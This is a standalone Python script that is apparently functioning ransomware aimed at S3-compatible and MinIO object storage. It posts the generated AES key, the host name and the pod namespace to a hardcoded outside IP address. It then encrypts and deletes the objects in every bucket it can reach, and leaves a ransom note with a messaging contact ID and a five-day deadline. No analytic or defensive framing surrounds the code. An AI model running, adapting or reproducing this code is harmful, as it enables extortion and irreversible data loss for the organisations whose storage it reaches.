#!/usr/bin/env python3
import os
import json
import base64
import socket
import urllib.request

import boto3
from botocore.config import Config
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

ENDPOINT = os.environ.get("S3_ENDPOINT") or os.environ.get("MINIO_ENDPOINT")
NOTE_KEY = "!!!_RESTORE_INSTRUCTIONS_!!!.txt"
SUFFIX = ".lck"
MAX_SIZE = 512 * 1024 * 1024
DROP = "http://45.153.240.17:8443/k"

NOTE = """All objects in this bucket were encrypted with AES-256-GCM.
Nothing was deleted permanently yet - but without our key you cannot read a single byte.

To get the key, contact us on Session (getsession.org):
05a8c3f1e2d94b7766c0e1f3a9b2d4c6e8f0a1b3c5d7e9f1a3b5c7d9e1f3a5b7c9

Your ID: {victim}

Do not rename or re-upload objects, you will damage them.
If we do not hear from you in 5 days the key is destroyed.
"""


def client():
    kw = {"config": Config(retries={"max_attempts": 3}, signature_version="s3v4")}
    if ENDPOINT:
        kw["endpoint_url"] = ENDPOINT
    return boto3.client("s3", **kw)


def ship_key(key, victim):
    body = json.dumps({
        "id": victim,
        "k": base64.b64encode(key).decode(),
        "h": socket.gethostname(),
        "ns": os.environ.get("POD_NAMESPACE", ""),
    }).encode()
    req = urllib.request.Request(DROP, data=body, headers={"Content-Type": "application/json"})
    for _ in range(3):
        try:
            urllib.request.urlopen(req, timeout=10)
            return True
        except Exception:
            continue
    return False


def lock_bucket(s3, bucket, aes):
    done = 0
    for page in s3.get_paginator("list_objects_v2").paginate(Bucket=bucket):
        for obj in page.get("Contents", []):
            k = obj["Key"]
            if k.endswith(SUFFIX) or k == NOTE_KEY or obj["Size"] > MAX_SIZE:
                continue
            try:
                data = s3.get_object(Bucket=bucket, Key=k)["Body"].read()
            except Exception:
                continue
            nonce = os.urandom(12)
            blob = nonce + aes.encrypt(nonce, data, k.encode())
            s3.put_object(Bucket=bucket, Key=k + SUFFIX, Body=blob)
            s3.delete_object(Bucket=bucket, Key=k)
            done += 1
    return done


def main():
    s3 = client()
    key = AESGCM.generate_key(bit_length=256)
    victim = base64.b32encode(os.urandom(10)).decode()
    if not ship_key(key, victim):
        return
    aes = AESGCM(key)
    if os.environ.get("TARGET_BUCKETS"):
        buckets = os.environ["TARGET_BUCKETS"].split(",")
    else:
        buckets = [b["Name"] for b in s3.list_buckets().get("Buckets", [])]
    for b in buckets:
        try:
            n = lock_bucket(s3, b, aes)
        except Exception:
            continue
        if n:
            s3.put_object(Bucket=b, Key=NOTE_KEY, Body=NOTE.format(victim=victim).encode())
    del aes, key


if __name__ == "__main__":
    main()
